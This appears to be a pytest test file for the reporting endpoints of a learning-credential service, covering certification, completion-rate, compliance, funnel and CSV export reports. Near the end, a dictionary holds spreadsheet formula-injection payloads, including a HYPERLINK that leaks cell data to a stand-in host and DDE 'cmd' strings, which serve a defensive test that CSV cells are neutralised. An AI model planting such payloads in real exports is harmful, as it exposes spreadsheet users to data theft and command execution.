"""Reports on a small organisation with known answers (see ``seed.py``), on SQLite and
PostgreSQL: certification now and in the past, completion rate across month boundaries,
compliance after a role change, the funnel, CSV, and refusals."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from tests.reports.seed import FOUNDATIONS, PRACTITIONER, Seeded, month_start, seed

DAY = timedelta(days=1)


@pytest.fixture
def seeded(client, admin_headers) -> Seeded:  # type: ignore[no-untyped-def]
    return seed(client, admin_headers)


@pytest.fixture
def reader(make_key) -> dict[str, str]:  # type: ignore[no-untyped-def]
    return {"Authorization": f"Bearer {make_key('reports:read', name='manager')}"}


def get(client, headers, path: str, **params: Any) -> Any:  # type: ignore[no-untyped-def]
    response = client.get(path, params=params, headers=headers)
    assert response.status_code == 200, response.text
    return response.json()


def by_group(report: dict[str, Any]) -> dict[str | None, dict[str, Any]]:
    return {g["group"]: g for g in report["groups"]}


def level(group: dict[str, Any], level_id: str) -> dict[str, Any]:
    return next(x for x in group["levels"] if x["level"] == level_id)


def test_certification_by_department_now(client, seeded, reader) -> None:  # type: ignore[no-untyped-def]
    report = get(client, reader, "/v1/reports/certification", group_by="department")
    assert report["group_by"] == "department"
    assert [lv["id"] for lv in report["levels"]] == [
        FOUNDATIONS,
        PRACTITIONER,
        "social-media/black-belt",
    ]
    groups = by_group(report)
    # named groups alphabetically, learners without a department last
    assert list(groups) == ["ops", "sales", "support", None]
    assert {k: g["learners"] for k, g in groups.items()} == {
        "ops": 1,  # hal (ivy moved to sales at the start of the month)
        "sales": 4,  # ann, bob, fay, ivy
        "support": 3,  # cat, dan, eve
        None: 1,  # gus
    }
    sales = level(groups["sales"], FOUNDATIONS)
    assert sales | {"share": None} == {
        "level": FOUNDATIONS,
        "holders": 2,  # ann, fay
        "share": None,
        "expiring_30": 1,  # fay, ~25 days left
        "expiring_60": 1,
        "expiring_90": 1,
        "expired_not_renewed": 0,
        "in_progress": 0,
    }
    assert sales["share"] == pytest.approx(0.5)
    support = level(groups["support"], FOUNDATIONS)
    assert support["holders"] == 1  # eve, renewed
    assert support["share"] == pytest.approx(0.3333)
    assert support["expired_not_renewed"] == 1  # dan
    assert support["expiring_90"] == 0  # eve's renewal runs for a year
    assert support["in_progress"] == 1  # cat: brand-voice counts, policy-101 at 70 does not
    assert level(groups["sales"], PRACTITIONER)["in_progress"] == 1  # ivy: community-201
    nobody = level(groups[None], FOUNDATIONS)
    assert (nobody["holders"], nobody["expired_not_renewed"], nobody["in_progress"]) == (0, 0, 0)
    assert level(groups["ops"], FOUNDATIONS)["holders"] == 1  # hal, earned at the month start


def test_certification_all_and_track_filter(client, seeded, reader) -> None:  # type: ignore[no-untyped-def]
    report = get(client, reader, "/v1/reports/certification", track="social-media")
    assert report["track"] == "social-media"
    [everyone] = report["groups"]
    assert everyone["group"] == "all"
    assert everyone["learners"] == 9
    foundations = level(everyone, FOUNDATIONS)
    assert (foundations["holders"], foundations["share"]) == (4, pytest.approx(4 / 9, abs=1e-4))


def test_certification_in_the_past_uses_status_history(client, seeded, reader) -> None:  # type: ignore[no-untyped-def]
    assert seeded.revoked_at is not None
    before = seeded.revoked_at - timedelta(seconds=1)
    then = get(client, reader, "/v1/reports/certification", at=before.isoformat())
    now = get(client, reader, "/v1/reports/certification")
    # gus held foundations until his credential was revoked
    assert level(then["groups"][0], FOUNDATIONS)["holders"] == 5
    assert level(now["groups"][0], FOUNDATIONS)["holders"] == 4

    twenty_days_ago = seeded.now - 20 * DAY
    report = get(
        client,
        reader,
        "/v1/reports/certification",
        group_by="department",
        at=twenty_days_ago.isoformat(),
    )
    support = by_group(report)["support"]
    assert support["learners"] == 2  # dan, eve; cat got her department 10 days ago
    foundations = level(support, FOUNDATIONS)
    # eve held both her old credential (until now-15d) and its renewal (from now-30d): one
    # holder, and not "expiring" since the renewal runs on
    assert foundations["holders"] == 1
    assert foundations["expiring_30"] == 0
    assert foundations["expired_not_renewed"] == 1  # dan, expired at now-35d


def test_completion_rate_month_boundaries_and_department_change(client, seeded, reader) -> None:  # type: ignore[no-untyped-def]
    report = get(client, reader, "/v1/reports/completion-rate", months=3, group_by="department")
    ops = by_group(report)["ops"]["months"]
    m0 = seeded.m0
    assert [m["month"] for m in ops] == [
        (m0 - 40 * DAY).strftime("%Y-%m"),
        (m0 - DAY).strftime("%Y-%m"),
        m0.strftime("%Y-%m"),
    ]
    assert datetime.fromisoformat(ops[2]["start"]) == m0
    rows = [(m["completions"], m["learners_completing"], m["learners_in_scope"]) for m in ops]
    # last month: hal at 23:59:59.999999 of its last day, ivy 5 days before; this month: hal
    # at 00:00:00 of the first day; ivy moved to sales at that instant
    assert rows == [(0, 0, 2), (2, 2, 2), (1, 1, 1)]
    assert [m["rate"] for m in ops] == [0.0, 1.0, 1.0]


def _since(seeded: Seeded) -> dict[str, datetime]:
    """When each seeded learner is first known (the earliest attribute change or completion)."""
    now, m0 = seeded.now, seeded.m0
    return {
        "ann": now - 100 * DAY,
        "bob": now - 40 * DAY,
        "cat": now - 10 * DAY,
        "dan": now - 400 * DAY,
        "eve": now - 400 * DAY,
        "fay": now - 345 * DAY,
        "gus": now - 10 * DAY,  # no attributes: known from his first completion
        "hal": m0 - 40 * DAY,
        "ivy": m0 - 40 * DAY,
    }


def test_completion_rate_for_everyone_matches_the_seeded_history(client, seeded, reader) -> None:  # type: ignore[no-untyped-def]
    report = get(client, reader, "/v1/reports/completion-rate", months=14)
    [everyone] = report["groups"]
    assert everyone["group"] == "all" and len(everyone["months"]) == 14
    since = _since(seeded)
    for month in everyone["months"]:
        start, end = datetime.fromisoformat(month["start"]), datetime.fromisoformat(month["end"])
        assert start == month_start(start) and end == month_start(end) and end > start
        inside = [who for who, at in seeded.completions if start <= at < end]
        in_scope = sum(1 for at in since.values() if at < end)
        assert month["completions"] == len(inside), month
        assert month["learners_completing"] == len(set(inside)), month
        assert month["learners_in_scope"] == in_scope, month
        expected = round(len(set(inside)) / in_scope, 4) if in_scope else None
        assert month["rate"] == expected
    assert everyone["months"][-1]["month"] == datetime.now(UTC).strftime("%Y-%m")


def test_compliance_totals_overdue_list_and_role_change(client, seeded, reader) -> None:  # type: ignore[no-untyped-def]
    report = get(client, reader, "/v1/reports/compliance", group_by="department")
    assert report["totals"] == {"learners": 4, "compliant": 1, "due": 2, "overdue": 1}
    mandates = {(m["role"], m["level"]): m for m in report["mandates"]}
    marketing = mandates[("marketing", FOUNDATIONS)]
    assert marketing["within"] == "P30D"
    # ann compliant, bob overdue (role 40 days ago), cat due (role 10 days ago); dan left
    assert marketing["totals"] == {"learners": 3, "compliant": 1, "due": 1, "overdue": 1}
    assert {g["group"]: (g["compliant"], g["due"], g["overdue"]) for g in marketing["groups"]} == {
        "sales": (1, 0, 1),
        "support": (0, 1, 0),
    }
    # dan became community manager 20 days ago: due (P60D) from then, not from his old role
    community = mandates[("community-manager", PRACTITIONER)]
    assert community["totals"] == {"learners": 1, "compliant": 0, "due": 1, "overdue": 0}
    [bob] = report["overdue"]["items"]
    assert (bob["learner_id"], bob["name"], bob["group"]) == ("bob", "Bob", "sales")
    role_since = datetime.fromisoformat(bob["role_since"])
    assert role_since == seeded.role_since["bob"]
    assert datetime.fromisoformat(bob["overdue_since"]) == role_since + 30 * DAY
    assert report["overdue"]["next_cursor"] is None

    only = get(client, reader, "/v1/reports/compliance", role="community-manager")
    assert [m["role"] for m in only["mandates"]] == ["community-manager"]
    assert only["overdue"]["items"] == []


def test_overdue_list_pages_with_a_cursor(client, seeded, reader, admin_headers) -> None:  # type: ignore[no-untyped-def]
    long_ago = (seeded.now - 90 * DAY).isoformat()
    for learner in ("zed", "abe"):
        response = client.put(
            f"/v1/learners/{learner}",
            json={"attributes": {"role": "marketing"}, "attributes_effective_at": long_ago},
            headers=admin_headers,
        )
        assert response.status_code == 201
    seen = []
    cursor = None
    for _ in range(5):
        params: dict[str, Any] = {"limit": 2} | ({"cursor": cursor} if cursor else {})
        page = get(client, reader, "/v1/reports/compliance/overdue", **params)
        seen += [x["learner_id"] for x in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    # same role and level: the longest overdue first, then by learner id
    assert seen == ["abe", "zed", "bob"]
    report = get(client, reader, "/v1/reports/compliance", limit=1)
    assert report["totals"]["overdue"] == 3
    assert len(report["overdue"]["items"]) == 1 and report["overdue"]["next_cursor"]


def test_funnel(client, seeded, reader) -> None:  # type: ignore[no-untyped-def]
    report = get(client, reader, "/v1/reports/funnel", track="social-media")
    assert report["learners"] == 9
    steps = [(s["level"], s["rank"], s["reached"], s["conversion"]) for s in report["steps"]]
    # ann, dan (expired still reached it), eve, fay, hal; gus's credential was revoked
    assert steps == [
        (FOUNDATIONS, 1, 5, pytest.approx(5 / 9, abs=1e-4)),
        (PRACTITIONER, 2, 0, 0.0),
        ("social-media/black-belt", 3, 0, None),
    ]


def _csv(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.text)))


def test_every_report_in_csv_with_its_computation_time(client, seeded, reader) -> None:  # type: ignore[no-untyped-def]
    started = datetime.now(UTC)
    rows = _csv(
        client.get(
            "/v1/reports/certification",
            params={"group_by": "department"},
            headers={**reader, "Accept": "text/csv"},
        )
    )
    assert len(rows) == 4 * 3
    sales = next(r for r in rows if r["group"] == "sales" and r["level"] == FOUNDATIONS)
    assert (sales["learners"], sales["holders"], sales["share"]) == ("4", "2", "0.5")
    assert datetime.fromisoformat(sales["computed_at"]) >= started
    rate = _csv(client.get("/v1/reports/completion-rate", params={"format": "csv"}, headers=reader))
    assert len(rate) == 12 and rate[0]["group"] == "all"
    totals = _csv(client.get("/v1/reports/compliance?format=csv", headers=reader))
    assert {(r["role"], r["overdue"]) for r in totals} == {
        ("community-manager", "0"),
        ("marketing", "1"),
    }
    overdue = _csv(client.get("/v1/reports/compliance/overdue?format=csv", headers=reader))
    assert [r["learner_id"] for r in overdue] == ["bob"]
    funnel = _csv(client.get("/v1/reports/funnel?track=social-media&format=csv", headers=reader))
    assert [r["reached"] for r in funnel] == ["5", "0", "0"]
    as_json = client.get("/v1/reports/funnel?track=social-media", headers=reader)
    assert as_json.headers["content-type"] == "application/json"
    assert datetime.fromisoformat(as_json.json()["computed_at"]) >= started


def test_empty_database_reports_zeroes(client, reader) -> None:  # type: ignore[no-untyped-def]
    report = get(client, reader, "/v1/reports/certification", group_by="region")
    assert report["groups"] == [] and report["levels"] == []
    rate = get(client, reader, "/v1/reports/completion-rate", months=2)
    assert [m["rate"] for m in rate["groups"][0]["months"]] == [None, None]
    assert get(client, reader, "/v1/reports/compliance")["totals"]["learners"] == 0


BAD_PARAMETERS = [
    ("/v1/reports/certification?group_by=Not-An-Attribute", 422, "invalid-input"),
    ("/v1/reports/certification?track=nope", 404, "not-found"),
    ("/v1/reports/certification?at=2020-01-01T00:00:00", 422, "invalid-input"),
    ("/v1/reports/certification?at=2999-01-01T00:00:00Z", 422, "invalid-input"),
    ("/v1/reports/certification?at=yesterday", 422, "invalid-input"),
    ("/v1/reports/certification?format=xml", 422, "invalid-input"),
    ("/v1/reports/completion-rate?months=0", 422, "invalid-input"),
    ("/v1/reports/completion-rate?months=61", 422, "invalid-input"),
    ("/v1/reports/compliance?role=nobody", 404, "not-found"),
    ("/v1/reports/compliance?cursor=%21%21", 400, "bad-request"),
    ("/v1/reports/compliance/overdue?cursor=WzFd", 400, "bad-request"),
    ("/v1/reports/funnel", 422, "invalid-input"),
    ("/v1/reports/funnel?track=nope", 404, "not-found"),
]


def test_bad_parameters_are_problems(client, reader) -> None:  # type: ignore[no-untyped-def]
    for path, status, slug in BAD_PARAMETERS:
        response = client.get(path, headers=reader)
        assert response.status_code == status, (path, response.text)
        assert response.headers["content-type"] == "application/problem+json"
        assert response.json()["type"].endswith("/" + slug), path


def test_reports_need_the_reports_scope(client, make_key) -> None:  # type: ignore[no-untyped-def]
    assert client.get("/v1/reports/certification").status_code == 401
    other = {"Authorization": f"Bearer {make_key('credentials:read')}"}
    denied = client.get("/v1/reports/compliance", headers=other)
    assert denied.status_code == 403
    assert denied.json()["required_scope"] == "reports:read"


FORMULAS = {
    "formula": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your report")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_csv_cells_that_would_run_as_formulas_are_neutralised(  # type: ignore[no-untyped-def]
    client, seeded, reader, make_key
) -> None:
    """A completions:write client writes learner attributes and names; a reports:read user opens
    the CSV in a spreadsheet. Text cells starting like a formula get a leading quote (OWASP);
    numbers, negative ones included, stay numbers."""
    writer = {"Authorization": f"Bearer {make_key('completions:write', name='lms')}"}
    for learner_id, value in FORMULAS.items():
        response = client.put(
            f"/v1/learners/{learner_id}",
            json={
                "name": value,
                "attributes": {"department": value, "role": "marketing"},
                "attributes_effective_at": (seeded.now - 100 * DAY).isoformat(),
            },
            headers=writer,
        )
        assert response.status_code in (200, 201), response.text
    csv_headers = {**reader, "Accept": "text/csv"}
    certification = _csv(
        client.get("/v1/reports/certification?group_by=department", headers=csv_headers)
    )
    rate = _csv(client.get("/v1/reports/completion-rate?group_by=department", headers=csv_headers))
    overdue = _csv(client.get("/v1/reports/compliance/overdue", headers=csv_headers))
    for rows in (certification, rate):
        groups = {row["group"] for row in rows}
        for value in FORMULAS.values():
            assert "'" + value in groups, (value, groups)
            assert value not in groups
        assert "sales" in groups  # ordinary text untouched
    names = {row["name"] for row in overdue}  # marketing for 100 days, mandate P30D: overdue
    assert names == {"Bob"} | {"'" + value for value in FORMULAS.values()}
    for row in certification:
        assert row["learners"].isdigit() and row["holders"].isdigit()
        float(row["share"])  # unquoted numbers
    as_json = client.get("/v1/reports/certification?group_by=department", headers=reader).json()
    assert FORMULAS["formula"] in {group["group"] for group in as_json["groups"]}  # JSON as is


def test_only_text_cells_are_neutralised() -> None:
    from service.reports.rows import to_csv

    table = (["group", "delta", "share"], [["-5", -5, -0.25], ["=1", 3, 0.5]])
    lines = to_csv(table).splitlines()
    assert lines[1:] == ["'-5,-5,-0.25", "'=1,3,0.5"]
